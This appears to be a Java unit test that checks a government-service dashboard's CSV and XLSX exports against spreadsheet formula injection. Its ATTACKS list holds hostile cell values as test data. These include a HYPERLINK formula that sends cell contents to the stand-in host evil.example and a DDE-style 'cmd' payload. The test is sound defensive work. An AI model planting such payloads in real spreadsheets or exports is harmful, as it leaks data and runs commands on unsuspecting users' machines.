package vn.motcua.monitoring;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * Formula injection through exports: an applicant named {@code =HYPERLINK(...)} must reach the manager's
 * spreadsheet as text, never as a formula, in CSV and in XLSX.
 */
class ExportCellsTest {

    static final List<String> ATTACKS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1");

    final Exports exports = new Exports(ZoneId.of("Asia/Ho_Chi_Minh"));

    Table table() {
        List<DashboardQueries.Row> rows = ATTACKS.stream().map(name -> new DashboardQueries.Row("000.00.20.H10-260302-0001",
                "000.00.20.H10", "UBND thành phố Đồng Xoài", "1.001612", "Đăng ký thành lập hộ kinh doanh", name, 4,
                "Task_Appraise", "Thẩm định", "ONLINE", Instant.parse("2026-03-02T01:00:00Z"),
                Instant.parse("2026-03-05T01:00:00Z"), true, "pi-1")).toList();
        return exports.dossiers(rows);
    }

    @Test
    void shouldWriteFormulaLikeTextWithAnApostropheInCsv() {
        String csv = new String(table().csv(), StandardCharsets.UTF_8);
        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http", ",'+1+cmd|", ",'-2+3,", ",\"'@SUM(1,1)\",", ",'\t=1+1,", ",\"'\r=1+1\",");
        assertThat(csv.lines().skip(1)).as("no cell starts like a formula, quoted or not")
                .noneMatch(line -> line.matches(".*,\"?[=+\\-@\t].*"));
        assertThat(csv).contains(",UBND thành phố Đồng Xoài,");
    }

    @Test
    void shouldWriteFormulaLikeTextAsQuotePrefixedTextCellsInXlsx() throws Exception {
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(table().xlsx()))) {
            for (int r = 1; r <= ATTACKS.size(); r++) {
                Row row = book.getSheetAt(0).getRow(r);
                Cell applicant = row.getCell(3);
                assertThat(applicant.getCellType()).isEqualTo(CellType.STRING);
                assertThat(applicant.getStringCellValue()).isEqualTo(ATTACKS.get(r - 1));
                assertThat(applicant.getCellStyle().getQuotePrefixed()).as("Excel keeps it text when edited").isTrue();
                assertThat(row.getCell(0).getCellStyle().getQuotePrefixed()).as("ordinary text unchanged").isFalse();
            }
        }
    }
}
